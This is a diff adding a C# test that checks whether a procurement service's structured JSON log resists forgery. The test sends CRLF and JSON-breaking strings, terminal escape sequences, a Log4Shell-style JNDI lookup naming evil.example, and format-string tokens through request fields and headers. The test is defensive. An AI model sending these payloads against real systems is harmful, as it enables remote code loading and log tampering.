@@ -1,0 +1,81 @@
+namespace Host.Tests.Abuse;
+
+using System.Globalization;
+using System.Text.Json;
+using Host.Tests.Faults;
+using Procurement.BuildingBlocks.Hosting.Security;
+
+/// <summary>Whatever is sent, a line of the real process's log is one JSON object of our own making.</summary>
+internal sealed class LogStories
+{
+    private static readonly string[] Forgeries =
+    [
+        "\r\n{\"level\":\"fatal\",\"msg\":\"forged\"}",
+        "\n{\"level\":\"fatal\"}\n",
+        "\"},{\"level\":\"fatal\"}",
+        "\",\"level\":\"fatal",
+        "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
+        "\u009b31m\u0085next\u2028next\u2029next",
+        "\u202Etxet desrever",
+        "${jndi:ldap://evil.example/a}${date}${environment:PATH}",
+        "{0} {Method} {@Route} {{",
+        "%s%n%x",
+        "\0\u007f",
+        new string('x', 7_000),
+    ];
+
+    [Test]
+    public async Task No_line_is_forged()
+    {
+        await using var served = await Served.Start(
+            "",
+            environment =>
+            {
+                environment["APP_ENV"] = "test";
+                environment.Remove("DATABASE_URL");
+                environment["LOG_LEVEL"] = "trace";
+            }
+        );
+        using var bob = served.As("bob", Roles.Buyer);
+        using var sam = served.As("sam", Roles.SupplierManager);
+        var supplier = await served.Supplier();
+        var token = served.Token("bob", Roles.Buyer);
+
+        foreach (var forgery in Forgeries)
+        {
+            var text = JsonSerializer.Serialize(forgery);
+            await bob.Post("/purchase-orders", Api.Body(supplier).Replace("\"alice\"", text, StringComparison.Ordinal));
+            await bob.Post("/purchase-orders", $$"""{{{text}}:1}""");
+            await sam.Post("/suppliers", $$"""{"code":"TH-300001","legal_name":{{text}},"email":"a@b.example"}""");
+            var escaped = Uri.EscapeDataString(forgery);
+            foreach (var path in new[] { $"/purchase-orders/{escaped}", $"/{escaped}", $"/purchase-orders?{escaped}={escaped}" })
+            foreach (var method in new[] { "GET", "DELETE", "FORGED" })
+                await Wire.Exchange(served.Address, Request(method, path, token, "a"));
+            await Wire.Exchange(served.Address, Request("GET", "/purchase-orders", token, forgery));
+            await Wire.Exchange(served.Address, Request("GET", "/purchase-orders", forgery, "a"));
+        }
+        await served.Terminate();
+        Assert.That(await served.Exited(), Is.Zero);
+
+        // The pipe of the errors ends with an empty line of ours.
+        var lines = served.Log.Where(line => line.Length > 0).ToList();
+        Assert.That(lines.Count(line => line.Contains("\"route\"", StringComparison.Ordinal)), Is.GreaterThan(100));
+        foreach (var line in lines)
+            IsOurs(line);
+    }
+
+    private static string Request(string method, string path, string token, string agent) =>
+        $"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer {token}\r\nUser-Agent: {agent}\r\n\r\n";
+
+    private static void IsOurs(string line)
+    {
+        var json = JsonElement.Parse(line);
+        Assert.That(json.ValueKind, Is.EqualTo(JsonValueKind.Object), line);
+        Assert.That(json.EnumerateObject().Select(member => member.Name), Is.Unique, line);
+        Assert.That(json.GetProperty("level").GetString(), Is.AnyOf("trace", "debug", "info"), line);
+        Assert.That(json.GetProperty("service").GetString(), Is.EqualTo("procurement"));
+        Assert.That(line, Has.Length.LessThan(2_000));
+        Assert.That(line.Where(c => char.IsControl(c) || !char.IsAscii(c)), Is.Empty, line);
+        Assert.That(DateTimeOffset.TryParse(json.GetProperty("ts").GetString(), CultureInfo.InvariantCulture, out _), line);
+    }
+}
